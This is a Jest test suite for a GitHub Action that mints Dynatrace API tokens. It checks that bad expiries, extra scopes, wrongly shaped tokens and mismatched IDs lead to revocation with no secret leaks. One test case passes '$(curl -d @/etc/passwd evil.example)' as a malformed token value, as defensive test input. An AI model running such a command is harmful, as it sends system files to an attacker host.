/**
 * The token handed on is the token asked for: Dynatrace's token shape, an ID that is the
 * token's own, exactly the requested scopes, and an expiry within token-lifetime on
 * Dynatrace's clock and the runner's. Anything else is revoked (or, when the create
 * answer itself cannot be trusted, cleaned up by name and expiry) and the step fails.
 */
import { afterEach, describe, expect, test } from '@jest/globals'
import nock from 'nock'
import { findLeaks, runStep, type StepRun } from './support/in-process.js'
import {
  ACCOUNT_API,
  BEARER,
  CLASSIC_INPUTS,
  PLATFORM,
  PLATFORM_INPUTS,
  PLATFORM_TOKEN,
  PLATFORM_TOKEN_ID,
  PLATFORM_TOKENS_PATH,
  SECRETS,
  SSO,
  SSO_PATH,
  TOKEN,
  TOKENS_PATH,
  TOKEN_ID,
  host,
  recordRequests,
  type Seen
} from './support/fixtures.js'
import {
  DEFAULT_ACCOUNT_UUID,
  DEMO_CLIENT,
  startEmulator
} from '../test/emulator/index.js'
import { createServer, request as httpRequest } from 'node:http'
import type { AddressInfo } from 'node:net'
import {
  annotations,
  emulatorInputs,
  runAction
} from '../test/support/runner.js'

afterEach(() => nock.cleanAll())

const NAME = 'gha/octo-org/deploy-repo/run-4242-1/deploy'
/** Another job's token: same name (a matrix), its own ID. */
const OTHER_ID = `dt0c01.${'O'.repeat(24)}`
const OTHER_PLATFORM_ID = 'dt0s16.OTHERJOB'

/** A Date header that reads the runner's clock (plus an offset) when nock answers. */
const dateHeader = (offsetMs = 0) => ({
  Date: () => new Date(Date.now() + offsetMs).toUTCString()
})

function mockSso(offsetMs = 0, date?: string): void {
  host(SSO)
    .post(SSO_PATH)
    .reply(
      200,
      { token_type: 'Bearer', access_token: BEARER, expires_in: 300 },
      date ? { Date: date } : dateHeader(offsetMs)
    )
}

/** The expiry the create request asked for, once it was sent. */
function requestedExpiry(seen: Seen[]): string {
  const create = seen.find(
    (s) => s.method === 'POST' && s.url.endsWith(TOKENS_PATH)
  )
  const body = JSON.parse(create?.body ?? '{}') as { expirationDate?: string }
  return body.expirationDate ?? ''
}

const errorLine = (run: StepRun): string =>
  decodeURIComponent(
    (run.stdout.split('\n').find((l) => l.startsWith('::error::')) ?? '')
      .slice(9)
      .replace(/%(?![0-9A-F]{2})/g, '%25')
  )

const requests = (seen: Seen[]): string[] =>
  seen.map((s) => `${s.method} ${s.url.split('?')[0]}`)

function expectNoLeaks(runs: StepRun | StepRun[], seen: Seen[]): void {
  expect(
    findLeaks(runs, SECRETS, {
      allowedEnv: ['DT_API_TOKEN'],
      urls: seen.map((s) => s.url)
    })
  ).toEqual([])
}

/**
 * Classic create answering `answer` (a function of the request body), a read-back
 * answering `readBack`, and a DELETE of TOKEN_ID for the revocation.
 */
function mockClassic(
  answer: (body: { expirationDate: string }) => Record<string, unknown>,
  readBack?: (body: { expirationDate: string }) => Record<string, unknown>
): void {
  let sent = { expirationDate: '' }
  const p = host(PLATFORM)
  p.post(TOKENS_PATH, (body: { expirationDate: string }) => {
    sent = body
    return true
  }).reply(201, () => answer(sent), dateHeader())
  if (readBack) {
    p.get(`${TOKENS_PATH}/${TOKEN_ID}`).reply(
      200,
      () => readBack(sent),
      dateHeader()
    )
  }
  p.delete(`${TOKENS_PATH}/${TOKEN_ID}`).reply(204)
}

const CLASSIC = { ...CLASSIC_INPUTS, 'export-variable': 'DT_API_TOKEN' }

describe('the expiry is bounded whatever the server says', () => {
  test('a Date header of the year 2100 on the SSO answer: fails before any token exists', async () => {
    const { seen } = recordRequests()
    mockSso(0, 'Fri, 01 Jan 2100 00:00:00 GMT')
    const run = await runStep({ inputs: CLASSIC })
    expect(run.exitCode).toBe(1)
    // Nothing was created: the only request is the SSO one.
    expect(requests(seen)).toEqual([`POST ${SSO}${SSO_PATH}`])
    const error = errorLine(run)
    expect(error).toMatch(/reads 2100-01-01T00:0\d:\d\d\.\d{3}Z, the runner's/)
    expect(error).toMatch(/ahead, more than the 5m the action accepts/)
    expect(error).toContain('No token was created')
    expect(error).toMatch(/Check the runner's clock \(NTP\)/)
    expect(run.outputs.token).toBeUndefined()
    expect(run.state['token-id']).toBeUndefined()
  })

  test('the emulator’s clock a day ahead: no token is created, none is left', async () => {
    nock.cleanAll()
    nock.enableNetConnect()
    const em = await startEmulator()
    try {
      em.advanceClock(86_400)
      const run = await runStep({
        inputs: {
          'client-id': DEMO_CLIENT.clientId,
          'client-secret': DEMO_CLIENT.clientSecret,
          'environment-url': em.url,
          'environment-id': 'abc12345',
          'sso-url': `${em.url}/sso/oauth2/token`,
          'account-api-url': em.url,
          'account-urn': `urn:dtaccount:${DEFAULT_ACCOUNT_UUID}`,
          'allow-custom-endpoints': 'true',
          'token-scopes': 'ReadConfig, WriteConfig'
        }
      })
      expect(run.exitCode).toBe(1)
      expect(errorLine(run)).toMatch(/Dynatrace's is (1d|23h59m\d+s) ahead/)
      expect(em.requests.map((r) => r.method)).toEqual(['POST'])
      expect(em.liveTokens()).toEqual([])
    } finally {
      await em.close()
    }
  })

  test('a clock 3½ minutes ahead is accepted, with a warning naming both clocks', async () => {
    const { seen } = recordRequests()
    // The Date header has whole seconds, so the difference seen is 3m29s to 3m30s.
    mockSso(210_000)
    mockClassic(
      (sent) => ({
        id: TOKEN_ID,
        token: TOKEN,
        expirationDate: sent.expirationDate
      }),
      (sent) => ({
        id: TOKEN_ID,
        scopes: ['ReadConfig', 'WriteConfig'],
        expirationDate: sent.expirationDate
      })
    )
    const run = await runStep({ inputs: CLASSIC })
    expect(run.exitCode).toBe(0)
    expect(run.stdout).toMatch(
      /::warning::Dynatrace's clock \(from the Date header of its answers\) reads \S+, the runner's \S+: they differ by 3m(2\d|30)s\b/
    )
    expect(run.outputs['token-expires-at']).toBe(requestedExpiry(seen))
    expectNoLeaks(run, seen)
  })

  test('a create answer whose expiry is a year beyond the request: revoked, and the step fails saying why', async () => {
    const { seen } = recordRequests()
    mockSso()
    const later = (iso: string): string =>
      new Date(Date.parse(iso) + 365 * 86_400_000).toISOString()
    mockClassic(
      (sent) => ({
        id: TOKEN_ID,
        token: TOKEN,
        expirationDate: later(sent.expirationDate)
      }),
      (sent) => ({
        id: TOKEN_ID,
        scopes: ['ReadConfig', 'WriteConfig'],
        expirationDate: later(sent.expirationDate)
      })
    )
    const run = await runStep({ inputs: CLASSIC })
    expect(run.exitCode).toBe(1)
    expect(requests(seen)).toContain(
      `DELETE ${PLATFORM}${TOKENS_PATH}/${TOKEN_ID}`
    )
    const asked = requestedExpiry(seen)
    const error = errorLine(run)
    expect(error).toContain(
      `Dynatrace reports that token ${TOKEN_ID} expires at ${later(asked)}, later than token-lifetime (1h) allows: the action asked for ${asked}`
    )
    expect(error).toContain('The token is not handed on.')
    expect(error).toMatch(/Check that environment-url points at Dynatrace/)
    // Said once, although the create answer and the read-back agree.
    expect(error.split('expires at').length).toBe(2)
    expect(run.stdout).toContain(
      `Revoked token ${TOKEN_ID} because the step failed`
    )
    expect(run.outputs.token).toBeUndefined()
    expect(run.env.DT_API_TOKEN).toBeUndefined()
    expect(run.state.revoked).toBe('true')
    expectNoLeaks(run, seen)
  })

  test('a read-back expiry beyond the request, after a create answer that matched: revoked', async () => {
    const { seen } = recordRequests()
    mockSso()
    mockClassic(
      (sent) => ({
        id: TOKEN_ID,
        token: TOKEN,
        expirationDate: sent.expirationDate
      }),
      () => ({
        id: TOKEN_ID,
        scopes: ['ReadConfig', 'WriteConfig'],
        expirationDate: '2100-01-01T00:00:00.000Z'
      })
    )
    const run = await runStep({ inputs: CLASSIC })
    expect(run.exitCode).toBe(1)
    expect(errorLine(run)).toContain(
      `token ${TOKEN_ID} expires at 2100-01-01T00:00:00.000Z, later than token-lifetime (1h) allows`
    )
    expect(requests(seen)).toContain(
      `DELETE ${PLATFORM}${TOKENS_PATH}/${TOKEN_ID}`
    )
    expect(run.outputs.token).toBeUndefined()
  })

  test('a read-back that says the token never expires: revoked', async () => {
    const { seen } = recordRequests()
    mockSso()
    mockClassic(
      (sent) => ({
        id: TOKEN_ID,
        token: TOKEN,
        expirationDate: sent.expirationDate
      }),
      () => ({
        id: TOKEN_ID,
        scopes: ['ReadConfig', 'WriteConfig'],
        expirationDate: null
      })
    )
    const run = await runStep({ inputs: CLASSIC })
    expect(run.exitCode).toBe(1)
    expect(errorLine(run)).toContain(
      `Dynatrace reports that token ${TOKEN_ID} never expires`
    )
    expect(requests(seen)).toContain(
      `DELETE ${PLATFORM}${TOKENS_PATH}/${TOKEN_ID}`
    )
  })

  test('a platform create answer with an expiry beyond the request: revoked', async () => {
    const { seen } = recordRequests()
    mockSso()
    host(ACCOUNT_API)
      .post(PLATFORM_TOKENS_PATH)
      .reply(
        200,
        {
          name: NAME,
          tokenId: PLATFORM_TOKEN_ID,
          token: PLATFORM_TOKEN,
          expirationDate: '2100-01-01T00:00:00.000Z'
        },
        dateHeader()
      )
      .delete(`${PLATFORM_TOKENS_PATH}/${PLATFORM_TOKEN_ID}`)
      .reply(200)
    const run = await runStep({ inputs: PLATFORM_INPUTS })
    expect(run.exitCode).toBe(1)
    expect(errorLine(run)).toMatch(
      /token dt0s16\.PLATFORM expires at 2100-01-01T00:00:00\.000Z, later than token-lifetime \(1h\) allows.*Check that environment-url and account-api-url point at Dynatrace/
    )
    expect(requests(seen)).toContain(
      `DELETE ${ACCOUNT_API}${PLATFORM_TOKENS_PATH}/${PLATFORM_TOKEN_ID}`
    )
    expect(run.outputs.token).toBeUndefined()
    expectNoLeaks(run, seen)
  })
})

describe('the scopes are exactly those requested', () => {
  test('a read-back with a scope not requested, outside allowed-scopes: revoked, naming it', async () => {
    const { seen } = recordRequests()
    mockSso()
    mockClassic(
      (sent) => ({
        id: TOKEN_ID,
        token: TOKEN,
        expirationDate: sent.expirationDate
      }),
      (sent) => ({
        id: TOKEN_ID,
        scopes: ['ReadConfig', 'WriteConfig', 'apiTokens.write'],
        expirationDate: sent.expirationDate
      })
    )
    const run = await runStep({
      inputs: { ...CLASSIC, 'allowed-scopes': 'ReadConfig, WriteConfig' }
    })
    expect(run.exitCode).toBe(1)
    expect(errorLine(run)).toContain(
      `Dynatrace created token ${TOKEN_ID} with scope(s) apiTokens.write that token-scopes did not ask for (apiTokens.write not even in allowed-scopes), so the token is not handed on: it could do more than asked.`
    )
    expect(requests(seen)).toContain(
      `DELETE ${PLATFORM}${TOKENS_PATH}/${TOKEN_ID}`
    )
    expect(run.outputs.token).toBeUndefined()
    expect(run.env.DT_API_TOKEN).toBeUndefined()
    expectNoLeaks(run, seen)
  })

  test('a read-back entry that is not a scope name counts as a scope not asked for', async () => {
    recordRequests()
    mockSso()
    mockClassic(
      (sent) => ({
        id: TOKEN_ID,
        token: TOKEN,
        expirationDate: sent.expirationDate
      }),
      (sent) => ({
        id: TOKEN_ID,
        scopes: ['ReadConfig', 'WriteConfig', { all: true }],
        expirationDate: sent.expirationDate
      })
    )
    const run = await runStep({ inputs: CLASSIC })
    expect(run.exitCode).toBe(1)
    expect(errorLine(run)).toContain(
      'with 1 entry that are not scope names that token-scopes did not ask for'
    )
    expect(run.outputs.token).toBeUndefined()
  })
})

describe('the create answer is the token asked for', () => {
  /** The list the clean-up reads: ours (by name and exact expiry) and another job's. */
  function mockClassicList(p: nock.Scope, sent: () => string): void {
    p.get(TOKENS_PATH)
      .query(true)
      .reply(200, () => ({
        apiTokens: [
          {
            id: OTHER_ID,
            name: NAME,
            expirationDate: '2026-01-01T00:00:00.000Z'
          },
          { id: TOKEN_ID, name: NAME, expirationDate: sent() }
        ]
      }))
  }

  test('an ID that is not the token’s own: our token is found by name and expiry and deleted, the other job’s is left alone', async () => {
    const { seen } = recordRequests()
    mockSso()
    mockSso()
    let sent = ''
    const p = host(PLATFORM)
    p.post(TOKENS_PATH, (body: { expirationDate: string }) => {
      sent = body.expirationDate
      return true
    }).reply(201, () => ({ id: OTHER_ID, token: TOKEN, expirationDate: sent }))
    mockClassicList(p, () => sent)
    p.delete(`${TOKENS_PATH}/${TOKEN_ID}`).reply(204)
    const main = await runStep({ inputs: CLASSIC })
    const post = await runStep({
      entry: 'post',
      inputs: CLASSIC,
      state: main.state
    })
    expect(main.exitCode).toBe(1)
    const error = errorLine(main)
    expect(error).toContain(
      `Dynatrace answered with a token ID that is not the token's own (${TOKEN_ID}; the reported one is hidden), so it is not handed on and nothing is revoked by the reported ID`
    )
    expect(error).toContain('Nothing it created is left valid.')
    expect(error).toMatch(/Check that environment-url points at Dynatrace/)
    expect(main.stdout).toContain(
      `Deleting token ${TOKEN_ID}, created by the request whose answer was not usable.`
    )
    const calls = requests(seen)
    expect(calls).toContain(`DELETE ${PLATFORM}${TOKENS_PATH}/${TOKEN_ID}`)
    expect(calls.filter((c) => c.includes(OTHER_ID))).toEqual([])
    // Asked once: an answer like that is not a network accident.
    expect(
      calls.filter((c) => c === `POST ${PLATFORM}${TOKENS_PATH}`)
    ).toHaveLength(1)
    expect(main.outputs.token).toBeUndefined()
    expect(main.outputs['token-id']).toBeUndefined()
    expect(main.state['token-id']).toBeUndefined()
    expect(post.exitCode).toBe(0)
    expect(post.stdout).toContain(
      'This step minted no token; nothing to revoke.'
    )
    expectNoLeaks([main, post], seen)
  })

  test.each([
    ['true', 'true'],
    ['abc', 'abc'],
    ['a command substitution', '$(curl -d @/etc/passwd evil.example)'],
    ['a short token', 'dt0c01.AB.CD'],
    ['lower-case characters', `dt0c01.${'p'.repeat(24)}.${'q'.repeat(64)}`],
    ['a platform token', `dt0s16.${'P'.repeat(8)}.${'Q'.repeat(64)}`]
  ])(
    'a token that is not of Dynatrace’s classic shape (%s): not handed on nor masked, cleaned up by name and expiry',
    async (_label, value) => {
      const { seen } = recordRequests()
      mockSso()
      let sent = ''
      const p = host(PLATFORM)
      p.post(TOKENS_PATH, (body: { expirationDate: string }) => {
        sent = body.expirationDate
        return true
      }).reply(201, () => ({ token: value, expirationDate: sent }))
      mockClassicList(p, () => sent)
      p.delete(`${TOKENS_PATH}/${TOKEN_ID}`).reply(204)
      const run = await runStep({ inputs: CLASSIC })
      expect(run.exitCode).toBe(1)
      expect(errorLine(run)).toContain(
        'Could not create the classic API token: Dynatrace answered with a token that does not have the shape of a Dynatrace classic token (dt0c01.<24 characters>.<64 characters>, upper-case letters and digits; value hidden), so it is not handed on.'
      )
      expect(run.outputs.token).toBeUndefined()
      expect(run.env.DT_API_TOKEN).toBeUndefined()
      // A short value masked by the runner would hide that word everywhere in the log.
      if (value.length < 32) expect(run.masks).not.toContain(value)
      expect(requests(seen)).toContain(
        `DELETE ${PLATFORM}${TOKENS_PATH}/${TOKEN_ID}`
      )
      expect(requests(seen).filter((c) => c.includes(OTHER_ID))).toEqual([])
      const log = run.stdout
        .split('\n')
        .filter((l) => !l.startsWith('::add-mask::'))
        .join('\n')
      if (value.length >= 8) expect(log).not.toContain(value)
    }
  )

  describe('platform tokens', () => {
    function mockPlatformList(a: nock.Scope, sent: () => string): void {
      a.get(PLATFORM_TOKENS_PATH)
        .query(true)
        .reply(200, () => ({
          results: [
            {
              tokenId: OTHER_PLATFORM_ID,
              name: NAME,
              expirationDate: '2026-01-01T00:00:00.000Z'
            },
            { tokenId: PLATFORM_TOKEN_ID, name: NAME, expirationDate: sent() }
          ]
        }))
    }

    test.each([
      [
        'a tokenId that is not the token’s own',
        { tokenId: OTHER_PLATFORM_ID, token: PLATFORM_TOKEN },
        "with a token ID that is not the token's own (dt0s16.PLATFORM; the reported one is hidden)"
      ],
      [
        'a token that is not of Dynatrace’s platform shape',
        { tokenId: OTHER_PLATFORM_ID, token: 'true' },
        'with a token that does not have the shape of a Dynatrace platform token (dt0s16.<1–64 characters>.<64 characters>'
      ],
      ['no token at all', { tokenId: OTHER_PLATFORM_ID }, 'without a token']
    ])(
      '%s: never deletes the reported ID (another job’s token), cleans up ours by name and expiry',
      async (_label, answer, message) => {
        const { seen } = recordRequests()
        mockSso()
        let sent = ''
        const a = host(ACCOUNT_API)
        a.post(PLATFORM_TOKENS_PATH, (body: { expirationDate: string }) => {
          sent = body.expirationDate
          return true
        }).reply(200, { name: NAME, ...answer })
        mockPlatformList(a, () => sent)
        a.delete(`${PLATFORM_TOKENS_PATH}/${PLATFORM_TOKEN_ID}`).reply(200)
        const run = await runStep({ inputs: PLATFORM_INPUTS })
        expect(run.exitCode).toBe(1)
        const error = errorLine(run)
        expect(error).toContain(
          `Could not create the platform token: Account Management answered ${message}`
        )
        expect(error).toMatch(/Check that account-api-url points at Dynatrace/)
        const calls = requests(seen)
        expect(calls).toContain(
          `DELETE ${ACCOUNT_API}${PLATFORM_TOKENS_PATH}/${PLATFORM_TOKEN_ID}`
        )
        expect(calls.filter((c) => c.includes(OTHER_PLATFORM_ID))).toEqual([])
        expect(run.outputs.token).toBeUndefined()
        expect(run.state['token-id']).toBeUndefined()
        expectNoLeaks(run, seen)
      }
    )
  })
})

describe('an expiry without a UTC offset', () => {
  /**
   * A front for the emulator that reports every token expiry `shiftMs` later and
   * without its UTC offset (`2026-11-28T10:00:00.123`), as a server may.
   */
  async function bareExpiryFront(
    target: string,
    shiftMs: number
  ): Promise<{ url: string; close: () => Promise<void> }> {
    const server = createServer((req, res) => {
      const chunks: Buffer[] = []
      req.on('data', (c: Buffer) => chunks.push(c))
      req.on('end', () => {
        const headers = { ...req.headers }
        delete headers.host
        const upstream = httpRequest(
          `${target}${req.url}`,
          { method: req.method, headers },
          (up) => {
            const body: Buffer[] = []
            up.on('data', (c: Buffer) => body.push(c))
            up.on('end', () => {
              const text = Buffer.concat(body)
                .toString()
                .replace(
                  /"expirationDate":"([^"]+)Z"/g,
                  (_m, iso: string) =>
                    `"expirationDate":"${new Date(Date.parse(`${iso}Z`) + shiftMs).toISOString().slice(0, -1)}"`
                )
              const answer = { ...up.headers }
              delete answer['content-length']
              delete answer['transfer-encoding']
              res.writeHead(up.statusCode ?? 502, answer)
              res.end(text)
            })
          }
        )
        upstream.end(Buffer.concat(chunks))
      })
    })
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
    const { port } = server.address() as AddressInfo
    return {
      url: `http://127.0.0.1:${port}`,
      close: () => new Promise((r) => server.close(() => r()))
    }
  }

  test("is read as UTC whatever the runner's time zone: 13 h beyond the request on a UTC+14 runner is revoked", async () => {
    // Read as local time (what Date.parse does with a bare date-time), such an expiry
    // moves by the runner's UTC offset: at UTC+14 one 13 h too late reads as in time.
    nock.cleanAll()
    nock.enableNetConnect()
    const em = await startEmulator()
    const front = await bareExpiryFront(em.url, 13 * 3_600_000)
    try {
      const step = await runAction({
        inputs: {
          ...emulatorInputs({ url: front.url, state: em.state }),
          'account-urn': `urn:dtaccount:${em.state.accountUuid}`,
          'token-scopes': 'ReadConfig'
        },
        env: { TZ: 'Pacific/Kiritimati' }
      })
      expect(step.exitCode).toBe(1)
      expect(annotations(step).join('\n')).toMatch(
        /expires at \S+, later than token-lifetime \(1h\) allows/
      )
      expect(step.outputs.token).toBeUndefined()
      expect(em.liveTokens()).toEqual([])
    } finally {
      await front.close()
      await em.close()
    }
  })
})
